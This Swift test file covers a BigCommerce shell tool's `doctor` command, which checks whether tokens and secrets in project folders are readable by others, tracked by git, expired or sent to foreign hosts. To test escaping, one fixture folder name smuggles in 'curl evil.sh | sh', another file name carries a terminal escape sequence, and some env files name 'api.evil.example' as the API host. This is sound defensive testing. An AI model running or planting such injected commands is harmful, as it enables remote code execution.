import BcshProcesses
import Foundation
import Testing

@testable import BcshFormats
@testable import BcshModel
@testable import BcshPorts
@testable import BcshShell

/// `doctor`: every kind of finding against real files, and real git work trees (tracked, ignored,
/// untracked), in temporary folders. The test shell's clock says 2026-09-21 (1_790_000_000).
@Suite struct DoctorTests {
  static let now = 1_790_000_000
  static let env = """
    BIGCOMMERCE_STORE_HASH=abc123
    BIGCOMMERCE_ACCESS_TOKEN=\(Sample.accessToken)
    BIGCOMMERCE_CLIENT_SECRET=\(Sample.clientSecret)

    """

  /// A shell whose folder holds `files` (name, text, mode).
  func project(_ files: [(String, String, Int)], environment: [String: String] = [:], json: Bool = true)
    -> TestShell
  {
    let t = TestShell(json: json, environment: environment)
    for (name, text, mode) in files {
      let path = t.path(name)
      try? FileManager.default.createDirectory(
        atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
      t.write(name, text)
      chmod(path, mode_t(mode))
    }
    return t
  }

  /// Runs `doctor` with `--json` and reads its findings as `kind file:line`.
  func findings(_ t: TestShell, _ line: String = "doctor") async -> (
    status: ShellExitStatus, found: [String], document: JSONValue?
  ) {
    let status = await t.run(line)
    let document = try? JSONReader.value(Array(t.output.output.utf8))
    let found =
      document?["findings"]?.elements?.map { finding in
        "\(finding["kind"]?.string ?? "?") \(finding["file"]?.string ?? "?"):\(finding["line"]?.integer ?? 0)"
      } ?? []
    // Nothing doctor prints quotes a secret.
    for secret in [Sample.accessToken, Sample.clientSecret] {
      #expect(!t.output.output.contains(secret) && !t.output.error.contains(secret))
    }
    return (status, found, document)
  }

  /// A JWT whose payload is `claims`.
  static func jwt(_ claims: String) -> String {
    func encoded(_ text: String) -> String {
      Data(text.utf8).base64EncodedString().replacing("+", with: "-").replacing("/", with: "_")
        .replacing("=", with: "")
    }
    return encoded("{\"alg\":\"ES256\"}") + "." + encoded(claims) + ".c2lnbmF0dXJl"
  }

  @Test func aCleanFolderIsClean() async {
    let t = project([(".env", Self.env, 0o600)])
    let (status, found, document) = await findings(t)
    #expect(status == .success, "\(t.output.error)")
    #expect(found == [])
    #expect(document?["files"]?.elements?.compactMap(\.string) == [".env"])
  }

  @Test func gitTrackedIgnoredAndUntrackedFiles() async throws {
    let t = project([
      (".env", Self.env, 0o600), (".env.local", Self.env, 0o600), ("app/.env.production", Self.env, 0o600),
      (".gitignore", ".env.local\n", 0o644),
    ])
    try ExternalProgram.run(["git", "init", "-q", "."], in: t.folder)
    try ExternalProgram.run(["git", "add", "-f", ".env"], in: t.folder)
    try ExternalProgram.run(
      ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "x"], in: t.folder)
    let (status, found, _) = await findings(t)
    #expect(status == .verifyProblem)
    #expect(found == ["tracked-secret .env:2", "unignored-secret app/.env.production:2"])
    // A tracked file stays tracked even once .gitignore names it.
    t.write(".gitignore", ".env.local\n.env\n")
    #expect(await t.run("doctor") == .verifyProblem)
    #expect(t.output.output.components(separatedBy: "\"tracked-secret\"").count == 3)
  }

  @Test func aSecretOthersCanRead() async {
    let t = project([
      (".env", Self.env, 0o644),
      ("sub/creds.txt", try! String(contentsOfFile: Self.example, encoding: .utf8), 0o640),
    ])
    let (status, found, _) = await findings(t)
    #expect(status == .verifyProblem)
    // The downloaded file is the sandbox store's, not abc123: both stores are named.
    #expect(
      found == [
        "readable-secret .env:2", "readable-secret sub/creds.txt:1", "store-mismatch sub/creds.txt:3",
      ])
  }

  static let example = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
    .appendingPathComponent("../../examples/cart-migration.txt").standardized.path

  @Test func keysCatalystNoLongerReads() async {
    let t = project([(".env.local", Self.env + "BIGCOMMERCE_CUSTOMER_IMPERSONATION_TOKEN=abc\n", 0o600)])
    let (_, found, document) = await findings(t)
    #expect(found == ["unread-key .env.local:4"])
    let fix = document?["findings"]?.elements?.first?["fix"]?.string ?? ""
    #expect(fix.contains("BIGCOMMERCE_STOREFRONT_TOKEN"))
  }

  @Test func legacyStencilAndAConfigWithoutAPIHost() async {
    let t = project([
      (".stencil", "{\"normalStoreUrl\": \"https://store-abc123.mybigcommerce.com\"}\n", 0o600),
      (
        "theme/config.stencil.json",
        "{\n  \"normalStoreUrl\": \"https://store-abc123.mybigcommerce.com\"\n}\n", 0o644
      ),
      ("other/config.stencil.json", "{\"apiHost\": \"https://api.bigcommerce.com\"}\n", 0o644),
    ])
    let (status, found, _) = await findings(t)
    #expect(status == .verifyProblem)
    #expect(found == ["legacy-stencil .stencil:1", "stencil-without-api-host theme/config.stencil.json:1"])
  }

  @Test func differentStoresAcrossFiles() async {
    let t = project([
      (".env", Self.env, 0o600),
      (".catalyst", "[auth]\nstoreHash = \"xyz789\"\naccessToken = \"\(Sample.accessToken)\"\n", 0o600),
    ])
    let (_, found, document) = await findings(t)
    #expect(found == ["store-mismatch .env:1"] || found == ["store-mismatch .catalyst:2"])
    let message = document?["findings"]?.elements?.first?["message"]?.string ?? ""
    #expect(message.contains("abc123") && message.contains("xyz789"))
  }

  @Test func theEnvironmentOverridesAFile() async {
    let t = project([(".env", Self.env, 0o600)], environment: ["BIGCOMMERCE_STORE_HASH": "zzz999"])
    #expect(await findings(t).found == ["environment-override .env:1"])
    let same = project([(".env", Self.env, 0o600)], environment: ["BIGCOMMERCE_STORE_HASH": "abc123"])
    #expect(await findings(same).found == [])
  }

  @Test func storefrontTokensExpiredExpiringAndBrowserOnly() async {
    let day = 86_400
    // Issued before the cut-off (2026-06-30), so still usable from a server.
    let issued = 1_780_000_000
    let t = project([
      (
        "a/.env",
        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(issued),\"eat\":\(Self.now - day)}"))\n", 0o600
      ),
      (
        "b/.env",
        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(issued),\"eat\":\(Self.now + 5 * day)}"))\n",
        0o600
      ),
      (
        "c/.env",
        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(Self.now - day),\"eat\":\(Self.now + 90 * day),\"cors\":[\"https://shop.example\"]}"))\n",
        0o600
      ),
      // The same without origins may be a private token (a JWT does not say): no finding.
      (
        "e/.env",
        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(Self.now - day),\"eat\":\(Self.now + 90 * day)}"))\n",
        0o600
      ),
      (
        "d/.env",
        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(issued),\"eat\":\(Self.now + 90 * day)}"))\n",
        0o600
      ),
    ])
    let (status, found, _) = await findings(t)
    #expect(status == .verifyProblem)
    #expect(
      found == ["storefront-expired a/.env:1", "storefront-expiring b/.env:1", "browser-only-token c/.env:1"])
  }

  /// A JWT does not say whether it is a storefront or a private token; a token the session minted
  /// does: a private one in a server's .env is no browser-only finding.
  @Test func aPrivateTokenTheSessionMintedIsNoBrowserOnlyFinding() async throws {
    let day = 86_400
    let token = Self.jwt("{\"iat\":\(Self.now - day),\"eat\":\(Self.now + 90 * day)}")
    var minted = Token(name: "server-tok", kind: .store)
    minted.apiPath = .store(hash: "abc123")
    minted.accessToken = Secret(token)
    minted.storefront = StorefrontTokenRecord(
      kind: .private, channels: [1], expiresAt: Self.now + 90 * day, scopes: [.unauthenticated],
      mintedAt: Self.now - day, mintedFrom: "minter-acct")
    var session = Session()
    try session.add(minted)
    let t = project([("web/.env", "BIGCOMMERCE_STOREFRONT_TOKEN=\(token)\n", 0o600)])
    // Without the session, the token (no CORS origins: it may be a private one) is no finding either.
    let before = await findings(t, "doctor web")
    #expect(before.found == [])
    let u = project([
      ("web/.env", "BIGCOMMERCE_STOREFRONT_TOKEN=\(token)\n", 0o600),
      ("minted.json", SessionFile.rendered(session), 0o600),
    ])
    #expect(await u.run("open minted.json") == .success)
    let (status, found, document) = await findings(u, "doctor web")
    #expect(document != nil)
    #expect(status == .success, "\(u.output.output)")
    #expect(found == [])
  }

  @Test func aSessionFilesStorefrontTokens() async {
    let session = """
      {
        "format": "bcsh-session", "version": 1,
        "session": {
          "tokens": [
            {
              "name": "web-front", "kind": "store", "scopes": [],
              "api_path": "https://api.bigcommerce.com/stores/abc123/v3/",
              "access_token": "\(Self.jwt("{}"))",
              "storefront": {
                "kind": "storefront", "channels": [1], "expires_at": \(Self.now - 10),
                "minted_at": 1780000000, "minted_from": "catalyst-dev"
              }
            }
          ]
        }
      }
      """
    let t = project([("s.bcsh.json", session, 0o600)])
    let (_, found, _) = await findings(t)
    #expect(found == ["storefront-expired s.bcsh.json:6"], "\(t.output.output)")
  }

  /// A session file bcsh saved holds secrets; made readable by others, doctor says so. Kept in
  /// the keyring instead, it holds none.
  @Test func aSessionFileWithItsSecrets() async {
    let t = TestShell(json: true, environment: ["AT": Sample.accessToken])
    #expect(
      await t.run(
        "token new cart-migration; path set abc123; token set access-token --env AT; save s.bcsh.json")
        == .success)
    chmod(t.path("s.bcsh.json"), 0o644)
    let (status, found, _) = await findings(t)
    #expect(status == .verifyProblem)
    #expect(found.count == 1 && found[0].hasPrefix("readable-secret s.bcsh.json:"))
  }

  @Test func skippedFoldersAndLinksAreNotRead() async throws {
    let t = project([
      ("node_modules/pkg/.env", Self.env, 0o644), (".git/.env", Self.env, 0o644),
      (".build/.env", Self.env, 0o644),
      ("elsewhere/.env", Self.env, 0o644),
    ])
    try FileManager.default.createSymbolicLink(
      atPath: t.path(".env"), withDestinationPath: t.path("elsewhere/.env"))
    let (_, found, document) = await findings(t)
    #expect(found == ["readable-secret elsewhere/.env:2"])
    #expect(document?["files"]?.elements?.compactMap(\.string) == ["elsewhere/.env"])
  }

  /// A FIFO or a folder named like a credential file is never opened (a read would wait forever);
  /// bytes that are not UTF-8 are read, not crashed on.
  @Test func hostileEntriesNeitherHangNorCrash() async throws {
    let t = project([(".env.local", "BIGCOMMERCE_STORE_HASH=\u{FFFD}abc\n", 0o600)])
    try FileManager.default.createDirectory(atPath: t.path("sub"), withIntermediateDirectories: true)
    _ = FileManager.default.createFile(
      atPath: t.path("sub/.env"), contents: Data([0xFF, 0xFE, 0x0A, 0x3D, 0xC3]))
    #expect(mkfifo(t.path(".env"), 0o600) == 0)
    try FileManager.default.createDirectory(atPath: t.path(".stencil"), withIntermediateDirectories: true)
    let (_, found, document) = await findings(t)
    #expect(found == [])
    #expect(document?["files"]?.elements?.compactMap(\.string).contains(".env") == false)
  }

  /// A folder deeper than the bound is said not to be checked (exit 2), not walked.
  @Test func aTooDeepFolderIsNotChecked() async throws {
    let deep = (1...ProjectFiles.maximumDepth + 1).map { "d\($0)" }.joined(separator: "/")
    let t = project([("\(deep)/.env", DoctorTests.env, 0o644)])
    let (status, found, document) = await findings(t)
    #expect(status == .commandFailed)
    #expect(found == [])
    #expect(document?["unchecked"]?.elements?.first?.string?.contains("deeper than") == true)
  }

  @Test func aFileThatCannotBeReadIsNotChecked() async {
    let t = project([(".env", "BIGCOMMERCE_ACCESS_TOKEN=\"\(Sample.accessToken)\n", 0o600)])
    let (status, found, document) = await findings(t)
    #expect(status == .commandFailed)
    #expect(found == [])
    #expect(document?["unchecked"]?.elements?.first?.string?.hasPrefix(".env:1:26:") == true)
  }

  /// A store hash key holding a client secret or a JWT is not printed: only a value of a store
  /// hash's shape is shown.
  @Test func aStoreHashThatIsNoHashIsNotShown() async {
    let jwt = Self.jwt("{\"iat\":1}")
    let t = project([
      (".env", "BIGCOMMERCE_STORE_HASH=\(Sample.clientSecret)\n", 0o600),
      ("a/.env", "BIGCOMMERCE_STORE_HASH=\(jwt)\n", 0o600),
      ("b/.env", "BIGCOMMERCE_STORE_HASH=abc123\n", 0o600),
    ])
    let (_, found, document) = await findings(t)
    #expect(found.count == 1 && found[0].hasPrefix("store-mismatch "))
    let message = document?["findings"]?.elements?.first?["message"]?.string ?? ""
    #expect(message.contains("abc123") && message.contains("characters, not shown"), "\(message)")
    #expect(!t.output.output.contains(jwt) && !t.output.output.contains(Sample.clientSecret))
    #expect(ProjectDoctor.isStoreHash("abc123") && !ProjectDoctor.isStoreHash("abc123/../x?y=1"))
    #expect(
      !ProjectDoctor.isStoreHash("ABC123") && !ProjectDoctor.isStoreHash(String(repeating: "a", count: 21)))
  }

  /// `--verify` asks the API only about store hashes of a valid shape: another value would go
  /// into the request's URL.
  @Test func onlyValidStoreHashesAreCredentials() throws {
    let t = project([
      (
        "a/.env",
        "BIGCOMMERCE_STORE_HASH=abc123/../../x?y=\nBIGCOMMERCE_ACCESS_TOKEN=\(Sample.accessToken)\n", 0o600
      ),
      ("b/.env", Self.env, 0o600),
    ])
    let doctor = ProjectDoctor(
      files: LocalFiles(), git: GitExposure(processes: SpawnedProcesses()), environment: [:],
      now: Date(timeIntervalSince1970: Double(Self.now)))
    let (_, credentials) = try doctor.check(t.folder, shownAs: ".")
    #expect(credentials.map(\.storeHash) == ["abc123"])
  }

  /// A file name or value with a line break or an escape sequence is shown escaped, and the fix
  /// quotes a path as a shell reads it back.
  @Test func namesAreEscapedAndFixesQuoted() async {
    let folder = "x; curl evil.sh | sh #"
    let t = project(
      [("\(folder)/.env", Self.env, 0o644), ("e\u{1B}[2J\nfake/.env", Self.env, 0o644)], json: false)
    #expect(await t.run("doctor") == .verifyProblem)
    let output = t.output.output
    #expect(output.contains("fix: chmod 600 -- 'x; curl evil.sh | sh #/.env'"), "\(output)")
    #expect(output.contains("e\\e[2J\\nfake/.env:2:"), "\(output)")
    #expect(!output.contains("\u{1B}") && !output.contains("\nfake"))
    #expect(ProjectDoctor.shellWord("it's") == "'it'\\''s'")
    #expect(ProjectDoctor.shellWord("-rf") == "'-rf'" && ProjectDoctor.shellWord("a/.env") == "a/.env")
  }

  /// A `.env` too large to read may hold a secret all the same: it is listed as not checked.
  @Test func aTooLargeEnvFileIsNotChecked() async {
    let big = Self.env + String(repeating: "# padding\n", count: Int(ProjectFiles.maximumSize) / 10 + 1)
    let t = project([(".env", big, 0o600), ("notes.txt", big, 0o600)])
    let (status, found, document) = await findings(t)
    #expect(status == .commandFailed)
    #expect(found == [])
    #expect(document?["unchecked"]?.elements?.compactMap(\.string) == [".env: larger than 1 MiB; not read"])
  }

  /// stencil reads the token from the file the config names by `secretsFileName`: doctor reads it
  /// too; a name bcsh would not write to is not followed, and said so at its line.
  @Test func aStencilConfigsOwnSecretsFileIsRead() async {
    let t = project([
      (
        "theme/config.stencil.json",
        "{\"apiHost\": \"https://api.bigcommerce.com\", \"secretsFileName\": \"my.secrets.json\"}\n", 0o600
      ),
      ("theme/my.secrets.json", "{\"accessToken\": \"\(Sample.accessToken)\"}\n", 0o644),
      (
        "bad/config.stencil.json",
        "{\n  \"apiHost\": \"https://api.bigcommerce.com\",\n  \"secretsFileName\": \"../x.json\"\n}\n", 0o600
      ),
    ])
    let (status, found, document) = await findings(t)
    #expect(status == .verifyProblem)
    #expect(found == ["readable-secret theme/my.secrets.json:1"])
    let unchecked = document?["unchecked"]?.elements?.compactMap(\.string) ?? []
    #expect(unchecked.count == 1 && unchecked[0].hasPrefix("bad/config.stencil.json:3:1: "), "\(unchecked)")
  }

  /// git failing in the folder (a corrupt `.git/HEAD`, a repository of another user that git
  /// refuses as of "dubious ownership") is no "ignored": the file is listed as not checked.
  @Test func aGitThatFailsLeavesTheFileNotChecked() async throws {
    let t = project([("corrupt/.env", Self.env, 0o600), ("foreign/.env", Self.env, 0o600)])
    try ExternalProgram.run(["git", "init", "-q", "."], in: t.path("corrupt"))
    try "garbage\n".write(toFile: t.path("corrupt/.git/HEAD"), atomically: true, encoding: .utf8)
    try ExternalProgram.run(["git", "init", "-q", "."], in: t.path("foreign"))
    if getuid() == 0 {
      try ExternalProgram.run(["chown", "-R", "1000:1000", t.path("foreign")], in: t.folder)
    }
    let (status, found, document) = await findings(t)
    #expect(status == .commandFailed)
    #expect(found == [])
    let unchecked = document?["unchecked"]?.elements?.compactMap(\.string) ?? []
    #expect(
      unchecked.contains { $0.hasPrefix("corrupt/.env:2: git failed there (exit 128)") }, "\(unchecked)")
    if getuid() == 0 { #expect(unchecked.contains { $0.hasPrefix("foreign/.env:2: git failed there") }) }
  }

  /// A `BIGCOMMERCE_API_HOST` that is no BigCommerce host sends the token elsewhere.
  @Test func anAPIHostThatIsNotBigCommerce() async {
    let t = project([
      ("a/.env.local", "BIGCOMMERCE_API_HOST=api.evil.example\n", 0o600),
      ("b/.env.local", "BIGCOMMERCE_API_HOST=api.bigcommerce.com\n", 0o600),
      ("c/.env.local", "BIGCOMMERCE_API_HOST=api.bigcommerce.com.evil.example\n", 0o600),
    ])
    let (_, found, _) = await findings(t)
    #expect(found == ["foreign-api-host a/.env.local:1", "foreign-api-host c/.env.local:1"])
  }

  @Test func humanOutputIsOneLineAFindingWithItsFix() async {
    let t = TestShell()
    t.write(".env", Self.env)
    chmod(t.path(".env"), 0o644)
    #expect(await t.run("doctor") == .verifyProblem)
    #expect(
      t.output.output == """
        .env:2: a secret in a file others can read (mode 644); fix: chmod 600 -- .env
        1 problem in 1 credential file

        """)
  }
}

extension GoldenTests {
  /// The wording of every finding `doctor` makes without the network, in one project.
  @Test func doctorFindings() async throws {
    let day = 86_400
    let now = DoctorTests.now
    let token = { (claims: String) in "BIGCOMMERCE_STOREFRONT_TOKEN=\(DoctorTests.jwt(claims))\n" }
    let t = DoctorTests().project(
      [
        (".env", DoctorTests.env, 0o600), (".env.development", DoctorTests.env, 0o644),
        (
          ".env.local",
          DoctorTests.env
            + "BIGCOMMERCE_CUSTOMER_IMPERSONATION_TOKEN=x\nBIGCOMMERCE_API_HOST=api.evil.example\n", 0o600
        ),
        (".stencil", "{}\n", 0o600),
        ("config.stencil.json", "{\"normalStoreUrl\": \"https://store-xyz789.mybigcommerce.com\"}\n", 0o644),
        ("a/.env", token("{\"iat\":1780000000,\"eat\":\(now - day)}"), 0o600),
        ("b/.env", token("{\"iat\":1780000000,\"eat\":\(now + 3 * day)}"), 0o600),
        (
          "c/.env", token("{\"iat\":\(now),\"eat\":\(now + 90 * day),\"cors\":[\"https://a.example\"]}"),
          0o600
        ),
        (".gitignore", ".env.local\na/\nb/\nc/\n", 0o644),
      ], environment: ["BIGCOMMERCE_CLIENT_SECRET": "other"], json: false)
    try ExternalProgram.run(["git", "init", "-q", "."], in: t.folder)
    try ExternalProgram.run(["git", "add", "-f", ".env"], in: t.folder)
    #expect(await t.run("doctor") == .verifyProblem)
    Golden.check(t.output.output, "doctor.txt")
  }
}
